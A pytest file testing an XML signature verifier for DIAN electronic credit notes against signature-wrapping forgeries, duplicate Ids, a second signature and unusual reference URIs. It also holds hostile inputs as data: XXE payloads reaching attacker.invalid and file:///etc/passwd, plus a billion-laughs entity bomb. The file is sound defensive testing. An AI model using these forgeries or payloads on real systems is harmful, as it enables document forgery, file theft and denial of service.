"""Signature-wrapping shapes, second signatures, duplicate Ids, odd URIs, and hostile input.

Shapes marked *attacker* move signed content without the key (no re-signing): the maths still
holds for what the references resolve to, and only the wrapping defence refuses. Shapes marked
*re-signed* are built with a valid key, proving each defence stands on its own.
"""

from __future__ import annotations

import copy
import time

import pytest
import verify_kit as kit
from lxml import etree
from verify_kit import failing, message

from minica.errors import HostileXml, MalformedXml
from minica.signing.verifier import verify_document

NS = kit.NS
CREDIT_NOTE = "Kreo-one__dian-fe19-creditnote.xml"
DS_OBJECT = f"{{{kit.DS}}}Object"


def _serialize(root: etree._Element) -> bytes:
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")


# --- attacker shapes (no key) ------------------------------------------------------------------


def test_signed_properties_wrapped_in_second_object_forged_in_place(ours: bytes, verify) -> None:
    """Original SignedProperties moved under a new ds:Object; a forged copy (other SigningTime,
    no Id) put where it was. The enveloped transform hides both from the document digest."""
    root = etree.fromstring(ours)
    sig = kit.signature(root)
    original = sig.find(".//xades:SignedProperties", NS)
    forged = copy.deepcopy(original)
    del forged.attrib["Id"]
    forged.find(".//xades:SigningTime", NS).text = "2026-01-01T00:00:00-05:00"
    original.addprevious(forged)
    wrapper = etree.SubElement(sig, DS_OBJECT)
    etree.SubElement(wrapper, "{urn:x-attacker}Holder").append(original)
    result = verify(_serialize(root))
    assert "MINICA-SIGNED-PROPERTIES-LOCATION" in failing(result)
    assert "not under this signature's" in message(result, "MINICA-SIGNED-PROPERTIES-LOCATION")
    assert result.signature_valid  # the maths alone would have accepted it
    assert not result.valid and result.signing_time is None


def test_signed_properties_moved_into_document_body(ours: bytes, verify) -> None:
    root = etree.fromstring(ours)
    original = kit.signature(root).find(".//xades:SignedProperties", NS)
    forged = copy.deepcopy(original)
    del forged.attrib["Id"]
    original.addprevious(forged)
    root.find("cbc:Note", NS).append(original)
    result = verify(_serialize(root))
    assert "MINICA-SIGNED-PROPERTIES-LOCATION" in failing(result)


def test_keyinfo_wrapped_forged_certificate_in_place(pki, ours: bytes, verify) -> None:
    """Original KeyInfo moved into a ds:Object; a KeyInfo with another certificate in its place."""
    root = etree.fromstring(ours)
    sig = kit.signature(root)
    original = sig.find("ds:KeyInfo", NS)
    forged = copy.deepcopy(original)
    del forged.attrib["Id"]
    forged.find(".//ds:X509Certificate", NS).text = kit.base64.b64encode(
        pki.intermediate.public_bytes(kit.Encoding.DER)).decode()
    original.addprevious(forged)
    etree.SubElement(sig, DS_OBJECT).append(original)
    result = verify(_serialize(root))
    assert "MINICA-REFERENCE-TARGET" in failing(result)
    assert result.signer is None and not result.valid


def test_original_document_wrapped_inside_forged_document(ours: bytes, verify) -> None:
    """The whole signed CreditNote moved under an extension of a forged one, whose body differs
    and which carries the original signature where DIAN expects it."""
    original = etree.fromstring(ours)
    forged = copy.deepcopy(original)
    forged.find("cbc:Note", NS).text = "forged"
    holder = forged.find("ext:UBLExtensions/ext:UBLExtension/ext:ExtensionContent", NS)
    inner = copy.deepcopy(original)
    inner_sig = kit.signature(inner)
    inner_sig.getparent().remove(inner_sig)
    holder.append(inner)
    result = verify(_serialize(forged))
    assert "ZE02" in failing(result) and "URI=''" in message(result, "ZE02")
    assert result.signed_document is None


def test_signed_document_nested_under_forged_root(ours: bytes, verify) -> None:
    original = etree.fromstring(ours)
    forged = etree.Element(original.tag, nsmap=original.nsmap)
    forged.append(original)
    result = verify(_serialize(forged))
    assert failing(result)[0] == "DC01" and "ZE02" in failing(result)


def test_second_signature_refused_aa04(ours: bytes, verify) -> None:
    root = etree.fromstring(ours)
    extension = kit.signature(root).getparent().getparent()
    twin = copy.deepcopy(extension)
    for node in twin.xpath(".//*[@Id]"):
        node.set("Id", node.get("Id") + "-2")
    extension.addnext(twin)
    result = verify(_serialize(root))
    assert "AA04" in failing(result) and "2 ds:Signature" in message(result, "AA04")


def test_duplicate_id_refused(ours: bytes, verify) -> None:
    root = etree.fromstring(ours)
    sp_id = kit.signature(root).find(".//xades:SignedProperties", NS).get("Id")
    root.find("cbc:Note", NS).set("Id", sp_id)
    result = verify(_serialize(root))
    assert "MINICA-DUPLICATE-ID" in failing(result) and sp_id in message(result, "MINICA-DUPLICATE-ID")


# --- re-signed shapes (valid key; only the defence refuses) -----------------------------------


def _si_refs(root):
    return kit.signature(root).findall("ds:SignedInfo/ds:Reference", NS)


def test_resigned_duplicate_id_refused(pki, vectors, verify) -> None:
    def mutate(root):
        sp_id = kit.signature(root).find(".//xades:SignedProperties", NS).get("Id")
        root.find("cbc:Note", NS).set("Id", sp_id)
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert failing(result)[0] == "MINICA-DUPLICATE-ID" and result.signature_valid
    # The ambiguous reference then resolves to nothing usable: no SignedProperties is signed.
    assert set(failing(result)) == {"MINICA-DUPLICATE-ID", "MINICA-REFERENCE-URI", "DC13"}


def test_resigned_reference_to_body_element_refused(pki, vectors, verify) -> None:
    def mutate(root):
        root.find("cbc:Note", NS).set("Id", "note-1")
        _si_refs(root)[1].set("URI", "#note-1")
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert "MINICA-REFERENCE-TARGET" in failing(result)
    assert "cbc:Note" in message(result, "MINICA-REFERENCE-TARGET") and result.signature_valid


def test_resigned_xpointer_uri_refused(pki, vectors, verify) -> None:
    def mutate(root):
        _si_refs(root)[0].set("URI", "#xpointer(/)")
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert "MINICA-REFERENCE-URI" in failing(result) and "XPointer" in message(result, "MINICA-REFERENCE-URI")


def test_resigned_external_uri_refused(pki, vectors, verify) -> None:
    def mutate(root):
        _si_refs(root)[1].set("URI", "http://attacker.invalid/keyinfo.xml")
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert "MINICA-REFERENCE-URI" in failing(result) and "external" in message(result, "MINICA-REFERENCE-URI")


def test_resigned_signature_outside_extensions_refused_dc01(pki, vectors, verify) -> None:
    def mutate(root):
        sig = kit.signature(root)
        sig.getparent().remove(sig)
        root.append(sig)
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert failing(result) == ["DC01"] and result.signature_valid and result.intact
    assert not result.profile and not result.valid and result.signer is None


def test_resigned_second_signature_refused_aa04(pki, vectors, verify) -> None:
    def mutate(root):
        extension = kit.signature(root).getparent().getparent()
        twin = copy.deepcopy(extension)
        for node in twin.xpath(".//*[@Id]"):
            node.set("Id", node.get("Id") + "-2")
        for ref in twin.findall(".//ds:Reference", NS):
            if ref.get("URI"):
                ref.set("URI", ref.get("URI") + "-2")
        qp = twin.find(".//xades:QualifyingProperties", NS)
        qp.set("Target", qp.get("Target") + "-2")
        extension.addnext(twin)
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert failing(result)[0] == "AA04" and "2 ds:Signature" in message(result, "AA04")
    # the second signature's SignedProperties is also outside this signature's ds:Object
    assert "MINICA-SIGNED-PROPERTIES-LOCATION" in failing(result)


def test_resigned_signed_properties_outside_object_refused(pki, vectors, verify) -> None:
    def mutate(root):
        sp = kit.signature(root).find(".//xades:SignedProperties", NS)
        qp = sp.getparent()
        root.find("cbc:Note", NS).append(sp)
        etree.SubElement(qp, f"{{{kit.XADES}}}SignedProperties")
    result = verify(kit.rekey(vectors[CREDIT_NOTE], pki.key, pki.signer, mutate=mutate))
    assert "MINICA-SIGNED-PROPERTIES-LOCATION" in failing(result)


# --- hostile and unreadable input ---------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">""" + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
) + b"""]><Invoice>&lol9;</Invoice>"""


@pytest.mark.parametrize("data", [XXE, LAUGHS, XXE.replace(b"http://attacker.invalid/secret", b"file:///etc/passwd")],
                         ids=["xxe-http", "billion-laughs", "xxe-file"])
def test_hostile_xml_refused_quickly(data: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(HostileXml):
        verify_document(data, at=kit.t("2026-03-01T00:00:00"))
    assert time.perf_counter() - started < 1.0


def test_not_xml_raises_malformed() -> None:
    with pytest.raises(MalformedXml):
        verify_document(b"%PDF-1.7 not xml", at=kit.t("2026-03-01T00:00:00"))


def test_naive_time_rejected(ours: bytes) -> None:
    with pytest.raises(ValueError):
        verify_document(ours, at=kit.dt.datetime(2026, 3, 1))
